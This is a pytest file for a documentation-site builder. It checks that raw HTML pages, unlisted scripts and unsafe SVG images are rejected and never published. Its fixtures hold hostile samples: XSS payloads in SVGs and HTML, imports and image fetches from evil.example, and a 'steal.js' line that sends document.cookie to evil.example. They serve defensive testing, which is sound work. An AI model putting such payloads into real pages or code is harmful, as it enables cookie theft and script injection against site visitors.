"""Files under docs/ that are not articles: raw pages and unnamed scripts are check errors
and never published; SVG images only without scripts or outside references; the
Content-Security-Policy allows only the scripts of the pages the build rendered."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from mkdocs.commands.build import build

from kb_builder.building import BuildFailed
from kb_builder.core.static_files import svg_problems
from kb_builder.csp import MANIFEST
from tests.conftest import article
from tests.kb_builder.test_checks import in_site, run_check

__all__ = ["in_site"]

RAW_PAGE = "<html><body><script>alert(document.cookie)</script></body></html>\n"
SAFE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
    '<defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="10" height="10"/>'
    '<use href="#g"/></svg>\n'
)
HOSTILE_SVGS = [
    ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "<script>"),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "onload= on <svg>"),
    (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
        '<a x:href="javascript:alert(1)"><text>x</text></a></svg>',
        "href='javascript:alert(1)' on <a>",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div>x</div></foreignObject></svg>',
        "<foreignobject>",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://evil.example/x);'
        "</style></svg>",
        "a <style> loading another resource",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/p.png"/></svg>',
        "href='http://evil.example/p.png' on <image>",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
        'to="javascript:alert(1)"/></a></svg>',
        "<set> changing href",
    ),
    ('<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>', "a DOCTYPE or entity declaration"),
    ("<svg><unclosed></svg>", "not well-formed XML"),
]


@pytest.mark.parametrize(("svg", "what"), HOSTILE_SVGS)
def test_svg_constructs_that_could_run_or_fetch_are_found(svg: str, what: str) -> None:
    found = [w for _, w in svg_problems(svg.encode())]
    assert found and found[0].startswith(what), found


def test_a_plain_svg_image_with_internal_references_passes() -> None:
    assert svg_problems(SAFE_SVG.encode()) == []


def test_raw_pages_unnamed_scripts_and_hostile_svgs_are_check_errors(make_site, in_site):
    make_site(
        {
            "email/quota.md": article("Quota", "![Diagram](img/ok.svg)\n"),
            "email/img/ok.svg": SAFE_SVG,
            "email/img/bad.svg": HOSTILE_SVGS[1][0],
            "email/raw.html": RAW_PAGE,
            "email/page.XHTML": RAW_PAGE,
            "js/steal.js": "fetch('http://evil.example/?' + document.cookie)\n",
            "css/x.css": "@import url(http://evil.example/x.css);\n",
        }
    )
    code, lines = run_check()
    page = "expected an article in Markdown (raw pages are not published: their scripts "
    code_file = "expected a script or stylesheet that mkdocs.yml names (extra_javascript, "
    assert code == 1
    assert lines[:5] == [
        f"docs/css/x.css:1: 'file': {code_file}extra_css), got a .css file no page may load",
        "docs/email/img/bad.svg:1: 'svg': expected an SVG image without scripts, event "
        "handlers or references outside itself, got onload= on <svg>",
        f"docs/email/page.XHTML:1: 'file': {page}would run on the site), got a .xhtml page",
        f"docs/email/raw.html:1: 'file': {page}would run on the site), got a .html page",
        f"docs/js/steal.js:1: 'file': {code_file}extra_css), got a .js file no page may load",
    ]


def test_scripts_and_stylesheets_mkdocs_yml_names_are_published(make_site, in_site):
    site = make_site(
        {"email/quota.md": article("Quota"), "js/extra.js": "console.log(1)\n",
         "css/extra.css": "body{}\n"},
        extra_config={"extra_javascript": ["js/extra.js"], "extra_css": ["css/extra.css"]},
    )  # fmt: skip
    assert run_check() == (0, [])
    out = site.build()
    assert (out / "js" / "extra.js").is_file() and (out / "css" / "extra.css").is_file()


def test_the_build_refuses_raw_pages_and_the_preview_never_serves_them(make_site, in_site):
    site = make_site(
        {"email/quota.md": article("Quota"), "email/raw.html": RAW_PAGE, "x.js": "alert(1)\n"}
    )
    with pytest.raises(BuildFailed):
        site.build()
    assert not (site.root / "site").exists()
    # A preview build goes on with check errors (each page lists them): without the files.
    config = site.load()
    config.plugins.on_startup(command="serve", dirty=False)
    try:
        build(config, serve_url="http://127.0.0.1:8000/")
    finally:
        config.plugins.on_shutdown()
    out = Path(config.site_dir)
    assert (out / "email" / "quota" / "index.html").is_file()
    assert not (out / "email" / "raw.html").exists() and not (out / "x.js").exists()


def test_the_csp_manifest_lists_only_the_scripts_of_rendered_pages(make_site, in_site):
    site = make_site({"email/quota.md": article("Quota")})
    out = site.build()
    manifest = json.loads((out / MANIFEST).read_text())
    assert len(manifest["script_hashes"]) >= 3  # Material's per-depth inline scripts
    assert manifest["image_origins"] == []
